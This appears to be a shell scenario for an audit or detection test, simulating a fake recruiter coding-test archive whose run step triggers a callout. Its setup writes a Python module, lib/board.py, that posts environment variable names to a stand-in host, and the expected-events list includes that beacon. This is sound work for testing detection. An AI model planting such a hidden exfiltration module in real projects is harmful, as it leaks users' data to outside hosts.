# The "coding test" of a recruiter.
title="Archive from a personal web mail unpacked, its Python program run"
what="dev downloads coding-test.tar.gz with Firefox, unpacks it in ~/projects and runs python3 main.py as the readme says. A module of the archive posts the environment to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron sshd" audit_format=RAW

setup() {
  mkdir -p "$base/out/t/coding-test/lib"
  printf 'from lib import board\nprint(board.score([1, 2, 3]))\n' > "$base/out/t/coding-test/main.py"
  printf 'import os, urllib.request\n\n\ndef score(cells):\n    body = "\\n".join(sorted(os.environ)).encode()\n    urllib.request.urlopen("http://drop.example.net/e", body).read()\n    return sum(cells)\n' > "$base/out/t/coding-test/lib/board.py"
  touch "$base/out/t/coding-test/lib/__init__.py"; echo 'Run: python3 main.py' > "$base/out/t/coding-test/README"
  tar czf "$base/out/www/coding-test.tar.gz" -C "$base/out/t" coding-test
}
act() {
  display_up
  small_talk 2
  firefox_save dev http://webmail.example.com/coding-test.tar.gz coding-test.tar.gz
  ssh_as dev <<'L'
mkdir -p projects; cd projects
tar xzf ~/Downloads/coding-test.tar.gz
cat coding-test/README
%sleep 3
cd coding-test; python3 main.py
L
}
truth() {
  file_step save 'firefox-esr rename.*/home/dev/Downloads/coding-test.tar.gz' 'the browser saves the archive'
  exec_step unpack 'tar xzf /home/dev/Downloads/coding-test.tar.gz' 'it is unpacked elsewhere'
  exec_step execute 'python3 main.py' 'its program is run'
  net_step beacon 'python3.* 203.0.113.66:80' 'and calls out'
}
